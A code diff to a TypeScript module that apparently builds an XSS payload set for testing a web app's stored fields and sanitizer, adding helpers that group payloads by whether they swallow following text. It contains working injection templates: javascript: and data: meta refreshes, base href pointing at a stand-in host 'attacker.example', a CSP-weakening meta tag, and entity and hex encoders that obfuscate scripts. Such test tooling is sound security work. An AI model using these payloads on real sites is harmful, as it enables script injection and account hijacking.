@@ -33,9 +33,15 @@ export const marker = (kind: string, id: number) => `xq${kind}${String(id).padSt
 
 const chars = (js: string) => [...js];
 /** `&#95;` for every character. */
-const decimalEntities = (js: string) => chars(js).map((c) => `&#${c.codePointAt(0)};`).join('');
+const decimalEntities = (js: string) =>
+  chars(js)
+    .map((c) => `&#${c.codePointAt(0)};`)
+    .join('');
 /** `&#x5f;` for every character. */
-const hexEntities = (js: string) => chars(js).map((c) => `&#x${c.codePointAt(0)?.toString(16)};`).join('');
+const hexEntities = (js: string) =>
+  chars(js)
+    .map((c) => `&#x${c.codePointAt(0)?.toString(16)};`)
+    .join('');
 /** `&#0000095` without the semicolon, which HTML still decodes in attributes. */
 const paddedEntities = (js: string) =>
   chars(js)
@@ -50,7 +56,10 @@ const jsHex = (js: string) =>
   chars(js)
     .map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`)
     .join('');
-const charCodes = (js: string) => chars(js).map((c) => c.charCodeAt(0)).join(',');
+const charCodes = (js: string) =>
+  chars(js)
+    .map((c) => c.charCodeAt(0))
+    .join(',');
 const base64 = (text: string) => Buffer.from(text).toString('base64');
 
 type Template = (js: string, id: number) => string;
@@ -158,7 +167,8 @@ const TEMPLATES: Record<PayloadFamily, Template[]> = {
   ],
   'meta and base': [
     (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
-    (js) => `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${base64(`<script>${js}</script>`)}">`,
+    (js) =>
+      `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${base64(`<script>${js}</script>`)}">`,
     (js) => `<base href="javascript:${js}//">`,
     () => `<base href="https://attacker.example/">`,
     () => `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">`,
@@ -281,4 +291,43 @@ export const PAYLOADS: readonly XssPayload[] = build();
 /** Payloads short enough for fields with tight limits (tags: 40 characters, category names: 60). */
 export function payloadsUpTo(maxLength: number): XssPayload[] {
   return PAYLOADS.filter((p) => p.text.length <= maxLength);
+}
+
+const RAW_TEXT = ['script', 'style', 'textarea', 'title', 'xmp', 'noscript', 'iframe', 'noembed', 'noframes'];
+
+/**
+ * True when a parser may read the rest of the field as part of this payload, so nothing stored
+ * after it in the same field would show: a raw-text element (style, textarea, ...) or a comment it
+ * never closes, or a raw-text tag inside SVG/MathML, where parsers disagree on where it ends (the
+ * server's sanitizer then drops the rest: safe, but the next payload's marker would be gone too).
+ */
+export function swallowsRest(p: XssPayload): boolean {
+  const text = p.text.toLowerCase();
+  if (text.includes('<plaintext')) return true;
+  if (text.includes('<!--') && !text.includes('-->')) return true;
+  const rawTags = RAW_TEXT.filter((tag) => new RegExp(`<${tag}\\b`).test(text));
+  if (rawTags.length > 0 && /<(svg|math)\b/.test(text)) return true;
+  return rawTags.some((tag) => {
+    const opens = text.match(new RegExp(`<${tag}\\b`, 'g'))?.length ?? 0;
+    const closes = text.match(new RegExp(`</${tag}\\b`, 'g'))?.length ?? 0;
+    return opens > closes;
+  });
+}
+
+/**
+ * Payloads in groups of at most `size` that can share one field: a payload that swallows what
+ * follows it always ends its group, so every other payload's marker still renders.
+ */
+export function inGroups(list: readonly XssPayload[], size: number): XssPayload[][] {
+  const groups: XssPayload[][] = [];
+  let current: XssPayload[] = [];
+  for (const p of list) {
+    current.push(p);
+    if (current.length === size || swallowsRest(p)) {
+      groups.push(current);
+      current = [];
+    }
+  }
+  if (current.length > 0) groups.push(current);
+  return groups;
 }
